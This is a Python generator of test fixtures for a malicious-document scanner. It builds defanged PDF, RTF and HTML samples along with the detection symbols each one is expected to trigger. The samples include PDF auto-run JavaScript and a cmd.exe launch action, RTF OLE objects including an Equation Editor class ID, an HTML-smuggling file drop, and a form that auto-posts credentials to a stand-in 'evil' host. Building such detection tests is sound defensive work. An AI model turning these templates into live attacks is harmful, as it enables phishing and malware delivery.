#!/usr/bin/python3
"""Builds benign and malicious-looking PDF, RTF and HTML documents on the
fly (our own code, standard library only) for the PDF, RTF and HTML
smuggling checks, each with the symbols it must get. Nothing here runs:
the payloads only alert, and the OLE data is a header, not an object.

    gen_docs.py OUTDIR      writes the files and OUTDIR/expected.json
"""
import base64
import json
import os
import sys
import zlib


def pdf(objects, trailer_extra=b""):
    """A PDF with a correct xref of objects (bytes bodies numbered from 1)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += (b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer_extra
            + b">>\nstartxref\n%d\n%%%%EOF\n" % xref)
    return bytes(out)


def stream(dict_body, data, compress=True):
    if compress:
        data = zlib.compress(data)
        dict_body += b" /Filter /FlateDecode"
    return b"<< %s /Length %d >>\nstream\n" % (dict_body, len(data)) + data + b"\nendstream"


PAGES = [b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
         b" /Resources << /Font << /F1 5 0 R >> >> >>",
         stream(b"", b"BT /F1 24 Tf 72 700 Td (Quarterly report) Tj ET"),
         b"<< /Type /Font /Subtype /Type1 /BaseFont /Times#20Roman >>"]


def pdf_clean():
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>"] + PAGES)


def pdf_openaction_js():
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"] + PAGES
               + [b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>"])


def pdf_escaped_js():
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 6 0 R >>"] + PAGES
               + [b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"])


def pdf_objstm_js():
    """The action lives in a compressed object stream (object 6)."""
    member = b"<< /S /JavaScript /JS (this.print\\(\\);) >>"
    header = b"6 0 "
    objstm = stream(b"/Type /ObjStm /N 1 /First %d" % len(header), header + member)
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"] + PAGES
               + [b"null", objstm])


def pdf_encrypted():
    enc = b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1028 /O <00> /U <00> >>"
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>"] + PAGES + [enc],
               trailer_extra=b"/Encrypt 6 0 R /ID [<0123456789abcdef> <0123456789abcdef>] ")


def pdf_launch():
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch"
                b" /Win << /F (cmd.exe) /P (/c echo hello) >> >> >>"] + PAGES)


def ole1(class_name, native):
    """An OLE1 ObjectHeader (version, embedded format, class, topic, item)
    followed by the native data."""
    cls = class_name.encode() + b"\0"
    le = lambda n: n.to_bytes(4, "little")
    return (le(0x0501) + le(2) + le(len(cls)) + cls + le(0) + le(0)
            + le(len(native)) + native)


def rtf_object(words, class_name, native):
    hexdata = ole1(class_name, native).hex()
    lines = "\n".join(hexdata[i:i + 64] for i in range(0, len(hexdata), 64))
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard Please review.\\par\n"
            "{\\object" + words + "\\objw100\\objh100{\\*\\objclass " + class_name + "}"
            "{\\*\\objdata\n" + lines + "\n}{\\result {\\pict}}}\\par}\n").encode()


def rtf_objupdate():
    return rtf_object("\\objemb\\objupdate", "Package", b"\x02\x00hello.txt\x00" + b"A" * 64)


EQN_CLSID = bytes.fromhex("02ce020000000000c000000000000046")


def rtf_equation():
    return rtf_object("\\objemb", "Equation.3", b"\xd0\xcf\x11\xe0" + b"\0" * 76 + EQN_CLSID)


def rtf_clean():
    return (b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0\\froman Times New Roman;}}"
            b"{\\colortbl;\\red0\\green0\\blue0;}\\pard\\plain\\f0\\fs24 Minutes of the "
            b"meeting\\par {\\b Decisions:} none.\\par}\n")


def html_smuggling():
    blob = base64.b64encode(bytes(range(256)) * 24).decode()
    return ("<html><body><p>Your document is downloading...</p><script>\n"
            "var b64 = '" + blob + "';\n"
            "var raw = atob(b64); var bytes = new Uint8Array(raw.length);\n"
            "for (var i = 0; i < raw.length; i++) bytes[i] = raw.charCodeAt(i);\n"
            "var blob = new Blob([bytes], {type: 'application/octet-stream'});\n"
            "var a = document.createElement('a'); a.href = URL.createObjectURL(blob);\n"
            "a.download = 'invoice.iso'; document.body.appendChild(a); a.click();\n"
            "</script></body></html>\n").encode()


def html_autosubmit():
    return ("<html><body onload=\"document.forms[0].submit()\">"
            "<form action=\"https://collect.evil.test/login.php\" method=\"post\">"
            "<input type=\"hidden\" name=\"user\" value=\"bob@example.com\">"
            "<input type=\"password\" name=\"pass\"></form></body></html>\n").encode()


def html_data_trap():
    page = base64.b64encode(b"<html><body>Sign in</body></html>").decode()
    return ("<html><head><meta http-equiv=\"refresh\" content=\"0; url=data:text/html;"
            "base64," + page + "\"></head><body><a href=\"data:application/x-msdownload;"
            "base64,TVqQAAMAAAAEAAAA\">Open</a></body></html>\n").encode()


def html_newsletter():
    pixel = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 6000).decode()
    font = base64.b64encode(b"wOFF" + b"\0" * 200).decode()
    return ("<html><head><style>@font-face { font-family: Brand; src: url(data:"
            "application/font-woff;base64," + font + "); }</style></head><body>"
            "<h1>November news</h1><p>Read <a href=\"https://news.example.org/nov\">our "
            "stories</a> and <a href=\"https://news.example.org/unsubscribe\">unsubscribe</a>."
            "</p><img src=\"data:image/png;base64," + pixel + "\" alt=\"logo\">"
            "<form action=\"https://news.example.org/search\"><input name=q>"
            "<input type=submit value=Search></form>"
            "<script>function track() { return 1; }</script></body></html>\n").encode()


# name, bytes builder, declared type, the symbols of ALL_SYMBOLS it must get
# (and no other of them)
DOCUMENTS = [
    ("clean.pdf", pdf_clean, "application/pdf", []),
    ("openaction_js.pdf", pdf_openaction_js, "application/pdf",
     ["PDF_JAVASCRIPT", "PDF_OPENACTION_JS"]),
    ("escaped_js.pdf", pdf_escaped_js, "application/pdf",
     ["PDF_JAVASCRIPT", "PDF_OPENACTION_JS", "PDF_NAME_OBFUSCATED"]),
    ("objstm_js.pdf", pdf_objstm_js, "application/pdf",
     ["PDF_JAVASCRIPT", "PDF_OPENACTION_JS"]),
    ("encrypted.pdf", pdf_encrypted, "application/pdf", ["PDF_ENCRYPTED"]),
    ("launch.pdf", pdf_launch, "application/pdf", ["PDF_LAUNCH"]),
    ("clean.rtf", rtf_clean, "application/rtf", []),
    ("objupdate.rtf", rtf_objupdate, "application/rtf", ["RTF_OBJECT", "RTF_OBJUPDATE"]),
    ("equation.rtf", rtf_equation, "application/rtf", ["RTF_OBJECT", "RTF_EQUATION_EXPLOIT"]),
    ("smuggling.html", html_smuggling, "text/html", ["HTML_SMUGGLING"]),
    ("autosubmit.html", html_autosubmit, "text/html",
     ["HTML_AUTOSUBMIT_FORM", "HTML_CREDENTIAL_FORM"]),
    ("data_trap.html", html_data_trap, "text/html", ["HTML_DATA_PAYLOAD", "HTML_REFRESH_TRAP"]),
    ("newsletter.html", html_newsletter, "text/html", []),
]

# every symbol of the three checks: a document must get exactly its own
ALL_SYMBOLS = {
    "PDF_JAVASCRIPT", "PDF_OPENACTION_JS", "PDF_LAUNCH", "PDF_EMBEDDED_FILE",
    "PDF_SUBMIT_FORM", "PDF_ENCRYPTED", "PDF_MANY_URIS", "PDF_RICH_MEDIA",
    "PDF_NAME_OBFUSCATED", "RTF_OBJECT", "RTF_OBJUPDATE", "RTF_ACTIVEX",
    "RTF_EQUATION_EXPLOIT", "RTF_MALFORMED", "HTML_SMUGGLING", "HTML_AUTOSUBMIT_FORM",
    "HTML_CREDENTIAL_FORM", "HTML_DATA_PAYLOAD", "HTML_REFRESH_TRAP",
}


def documents():
    """(name, bytes, declared type, expected symbols) of every document."""
    return [(name, build(), ctype, want) for name, build, ctype, want in DOCUMENTS]


def main(argv):
    if len(argv) != 2:
        sys.stderr.write("usage: gen_docs.py OUTDIR\n")
        return 2
    os.makedirs(argv[1], exist_ok=True)
    expected = {}
    for name, data, _, want in documents():
        with open(os.path.join(argv[1], name), "wb") as f:
            f.write(data)
        expected[name] = want
    with open(os.path.join(argv[1], "expected.json"), "w") as f:
        json.dump(expected, f, indent=1)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
